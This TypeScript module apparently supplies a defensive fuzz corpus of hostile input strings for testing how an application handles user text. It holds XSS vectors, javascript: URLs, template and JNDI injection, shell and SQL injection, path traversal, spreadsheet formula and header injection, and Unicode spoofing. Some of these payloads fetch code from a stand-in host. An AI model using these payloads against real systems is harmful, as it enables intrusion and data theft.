import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { isLong } from './long.ts'

/** What a page that ran one of these texts calls; the number is replaced by the text's place in the list. */
const trip = '__tripped(NUMBER)'
const away = '//elsewhere.example'

const breakOuts = ['', '"', '">', "'>", '</title>', '</textarea></style></noscript>', '</script>', '-->', ']]>', '\\"})', '`}']
const elements = [
  `<script>${trip}</script>`,
  `<ScRiPt/x>${trip}</sCrIpT>`,
  `<script src=${away}/a.js></script>`,
  `<img src=x onerror=${trip}>`,
  `<img/src='x'/onerror='${trip}'/`,
  `<img src=${away}/pixel.png>`,
  `<svg onload=${trip}>`,
  `<svg><script href=data:,${trip} />`,
  `<svg><animate onbegin=${trip} attributeName=x dur=1s>`,
  `<svg><style><img title="</style><img src onerror=${trip}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${trip}&gt;">`,
  `<math><a xlink:href="javascript:${trip}">x</a></math>`,
  `<iframe srcdoc="<script>parent.${trip}</script>"></iframe>`,
  `<iframe src="javascript:parent.${trip}"></iframe>`,
  `<object data="javascript:${trip}"></object>`,
  `<embed src="data:text/html,<script>top.${trip}</script>">`,
  `<details open ontoggle=${trip}>`,
  `<input autofocus onfocus=${trip}>`,
  `<p tabindex=0 onpointerover=${trip} onfocus=${trip} style=position:fixed;inset:0>x`,
  `<video><source onerror=${trip}></video>`,
  `<marquee onstart=${trip}>x</marquee>`,
  `<a href="javascript:${trip}">here</a>`,
  `<form action="javascript:${trip}"><button autofocus>go</button></form>`,
  `<base href=${away}/>`,
  `<link rel=stylesheet href=${away}/a.css>`,
  `<meta http-equiv=refresh content="0;url=http:${away}">`,
  `<style>@import '${away}/a.css'; body { display: none }</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${trip}>">`,
  `<template><script>${trip}</script></template>`,
  `<x id=root name=config></x><form id=__tripped><input name=children></form>`,
]

const addresses = [
  `javascript:${trip}`,
  `JaVaScRiPt:${trip}//`,
  `java\tscript:${trip}`,
  `\u0001javascript:${trip}`,
  `javascript://%0a${trip}`,
  `javascript&colon;${trip}`,
  `data:text/html,<script>${trip}</script>`,
  `vbscript:${trip}`,
  `blob:http:${away}/x`,
  `https:${away}/sign-in`,
  `${away}/sign-in`,
  `\\\\elsewhere.example\\share`,
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fadmin',
  '/\\elsewhere.example',
]

// In these, a placeholder is the text itself.
const opened = '${'
const templates = [
  `{{constructor.constructor('${trip}')()}}`,
  `${opened}7*7}`,
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  `[[${opened}7*7}]]`,
  `${opened}T(java.lang.Runtime).getRuntime()}`,
  `${opened}jndi:ldap://elsewhere.example/a}`,
  '%s%s%s%n%x',
  "$1 $& $` $'",
  '$(touch /tmp/x) `id` ; & |',
  "' or 1=1 --",
  `"}],"code":"ok","x":[{"`,
  `\\u003cscript\\u003e${trip}\\u003c/script\\u003e`,
  `&lt;script&gt;${trip}&lt;/script&gt;`,
  `&#60;img src=x onerror=${trip}&#62;`,
  `%3Cscript%3E${trip}%3C/script%3E`,
  `+ADw-script+AD4-${trip}+ADw-/script+AD4-`,
  `\ufe64script\ufe65${trip}\ufe64/script\ufe65`,
  `\uff1cscript\uff1e${trip}\uff1c/script\uff1e`,
]

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '[object Object]',
]

const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://elsewhere.example","here")',
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3+cmd',
  '\t=1+1',
  '\uff1d1+1',
]

const lines = [
  '\u001b]8;;http://elsewhere.example\u0007click\u001b]8;;\u0007',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u009b31mC1 control',
  'first\r\nSet-Cookie: a=b',
  'data: x\n\nevent: event\ndata: {}\n\n',
  'line\u2028separator\u2029paragraph',
  'a\u0000b',
  'bell\u0007 backspace\b\b\b delete\u007f',
]

const unseen = [
  '\u202egpj.exe',
  'user\u202e\u2066//admin\u2069\u2066',
  '\u2067right\u2069 \u200fmark\u200e',
  '\u061carabic mark',
  'adm\u200bin',
  'ad\u200dm\u200cin\u2060',
  '\ufeffadmin',
  'ad\u00admin',
  'Acme\u00a0Corp\u2007\u202f',
  '\u3164',
  '\u115f\u1160\uffa0',
  '\u2800\u2800\u2800',
  '   ',
  '\u{e0001}\u{e0041}\u{e0064}\u{e006d}',
  'variation\ufe0e\ufe0f\u{e0100}',
  '\ufff9anchor\ufffasep\ufffb',
  '\ud800 lone \udc00',
  '\ue000\u{f0000}',
  'noncharacter\ufffe\uffff',
]

const letters = [
  '\u0430dmin',
  '\u0410cme C\u043erp',
  'Gl\u04e9bex',
  '\ud835\udd38\ud835\udd55\ud835\udd5e\ud835\udd5a\ud835\udd5f',
  'ＡＤＭＩＮ',
  'I\u0307stanbul \u0131',
  '\ufb03 \ufb01 \u1e9e \u00df',
  'Zalgo'.replace(/./g, (letter) => letter + '\u0316\u0301\u0489\u0327\u035f'.repeat(6)),
  `a${'\u0301'.repeat(100)}`,
  'نقابة المهندسين',
  'חברת החשמל',
  '北京市海淀区有限公司',
  '株式会社ひまわり',
  'ไทยแลนด์ กรุ๊ป',
  'अंतर्राष्ट्रीय व्यापार',
  'Ελληνική Εταιρεία',
  '\u0bcc\u0bb8\u0bcd\u0bb0\u0bc0',
  '\ufdfd \u1242b \ud808\udc2b',
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇦🇶',
  '\ud83d\udc68\u200d\ud83d\udc69',
]

/** The longest that a name may be, and words without a place to break. */
const long = [
  'W'.repeat(1000),
  'wide word '.repeat(100).trim(),
  '漢'.repeat(1000),
  '\u202e'.repeat(500),
  '\u200b'.repeat(1000),
  '<b>'.repeat(333),
  '.'.repeat(1000),
]

/** Each element by itself, and after a way out of where it stands: after each of them in a long run, otherwise after a few. */
const own = [
  ...breakOuts.flatMap((breakOut, row) =>
    elements.filter((_, column) => isLong || row === 0 || (row + column) % 10 === 0).map((element) => breakOut + element),
  ),
  ...addresses,
  ...templates,
  ...names,
  ...formulas,
  ...lines,
  ...unseen,
  ...letters,
  ...long,
]

/** Every text of the `.json` (an array) and `.txt` (one a line) files of a folder. */
const readLists = (folder: string): string[] =>
  readdirSync(folder)
    .toSorted()
    .flatMap((name) => {
      const text = readFileSync(join(folder, name), 'utf8')
      if (name.endsWith('.json')) return JSON.parse(text) as string[]
      return name.endsWith('.txt') ? text.split('\n') : []
    })

/**
 * Texts that somebody could give a tenant, a user or a device to do harm where it is shown. `HOSTILE_TEXTS` names a folder
 * with further lists, such as those that are published for this purpose.
 */
export const hostileTexts = (): string[] => {
  const { HOSTILE_TEXTS: folder } = process.env
  const all = [...own, ...(folder ? readLists(folder) : [])].filter((text) => text.trim() !== '' || text === '   ')
  return [...new Set(all)].map((text, at) => text.replaceAll('NUMBER', String(at)))
}

/** As much of a text as a field holds. */
export const cut = (text: string, most: number): string => text.slice(0, most)

/** All of them in as few texts as a field's length allows. */
export const packed = (texts: readonly string[], most: number): string[] => {
  const packs: string[] = []
  let pack = ''
  for (const text of texts) {
    if (pack.length + text.length + 1 > most) {
      if (pack) packs.push(pack)
      pack = cut(text, most)
    } else pack = pack ? `${pack} ${text}` : text
  }
  return pack ? [...packs, pack] : packs
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what the form refuses
const notInReasons = /[\u0000-\u0008\u000b-\u001f\u007f]|\p{Surrogate}/gu

/** A reason as staff could paste it: what the form refuses is taken out. */
export const asReason = (text: string): string =>
  cut(`Customer pasted: ${text.toWellFormed().replace(notInReasons, '').normalize('NFC')}`, 1950).trim()

// biome-ignore lint/suspicious/noControlCharactersInRegex: these would end the request line
const notInTargets = /[\u0000-\u0020\u007f]/g

/** The bytes of a text where a request line has the target, one character for each. */
export const asTarget = (text: string): string => Buffer.from(text).toString('latin1').replace(notInTargets, '+')
